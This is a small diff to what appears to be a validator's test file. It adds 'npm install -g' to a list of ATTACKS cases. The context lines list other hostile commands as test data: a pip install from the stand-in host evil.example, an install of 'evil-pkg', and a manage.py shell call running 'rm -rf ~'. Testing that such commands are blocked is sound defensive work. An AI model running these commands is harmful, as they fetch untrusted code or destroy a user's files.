@@ -80,6 +80,7 @@ ATTACKS: tuple[tuple[str, tuple[Any, ...]], ...] = (
     ("install from another index", ("pip install --index-url https://evil.example/simple -e .",)),
     ("install a named package", ("npm install evil-pkg",)),
     ("pip install --user", ("pip install --user -e .",)),
+    ("npm global install of the project", ("npm install -g",)),
     (
         "manage.py runs code from its arguments",
         ("python manage.py shell -c \"import os; os.system('rm -rf ~')\"",),
